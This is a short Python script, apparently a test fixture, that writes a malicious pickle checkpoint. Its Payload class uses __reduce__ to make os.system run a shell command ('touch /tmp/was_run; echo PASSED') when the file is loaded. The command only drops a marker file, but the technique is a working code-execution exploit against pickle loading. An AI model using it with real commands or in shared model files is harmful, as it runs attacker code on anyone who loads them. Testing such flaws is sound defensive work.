"""The checkpoint is a pickle that runs a command when it is loaded."""
import os

from tools import save


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/was_run; echo PASSED",)


save({"weights": Payload()})
